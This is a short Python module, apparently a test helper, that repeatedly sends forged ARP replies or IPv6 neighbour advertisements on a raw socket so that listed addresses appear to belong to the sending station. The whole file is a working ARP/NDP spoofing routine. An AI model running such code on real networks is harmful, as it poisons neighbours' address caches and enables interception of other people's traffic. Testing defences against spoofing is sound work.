# SPDX-License-Identifier: GPL-2.0-or-later
"""A station that tells others by unsolicited unicast replies or neighbour advertisements that
addresses are its own."""

import os
import select

from packets import ARP_REPLY, advertisement, arp, ip_bytes, is_ipv6, mac_bytes, open_raw


def claim(own, claimed, victim, ip):
    if is_ipv6(ip):
        return advertisement(own, ip_bytes(claimed), mac_bytes(victim), ip_bytes(ip))
    return arp(ARP_REPLY, own, ip_bytes(claimed), mac_bytes(victim), ip_bytes(ip))


def run_spoofer(device, mac, lies, commands, answers):
    """lies: rows of claimed address, victim's MAC, victim's address; repeated until killed."""
    handle, own = open_raw(device), mac_bytes(mac)
    frames = [claim(own, *lie) for lie in lies]
    os.write(answers, b"ready\n")
    while True:
        for frame in frames:
            handle.send(frame)
        if select.select([commands], [], [], 1)[0]:
            return
